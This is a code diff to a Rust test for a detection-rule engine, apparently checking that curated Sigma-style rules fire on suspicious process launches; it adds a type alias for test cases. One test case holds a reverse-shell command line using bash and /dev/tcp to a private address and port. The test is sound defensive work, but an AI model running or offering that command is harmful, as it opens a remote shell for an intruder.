@@ -33,11 +33,19 @@ fn curated_rules_load_without_warnings() {
     assert!(loaded.rules.rules().iter().filter(|r| r.blocking).count() >= 1);
 }
 
+/// (exe, command line, parent exe, expected (rule id, action)).
+type Case = (
+    &'static str,
+    &'static str,
+    &'static str,
+    Option<(&'static str, Action)>,
+);
+
 #[test]
 fn curated_rules_fire_on_what_they_describe() {
     let loaded = ringfence_sigma::load(&content(), &Config::default()).expect("utf-8");
     let mut scratch = Scratch::default();
-    let cases: &[(&str, &str, &str, Option<(&str, Action)>)] = &[
+    let cases: &[Case] = &[
         (
             "/usr/bin/bash",
             "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
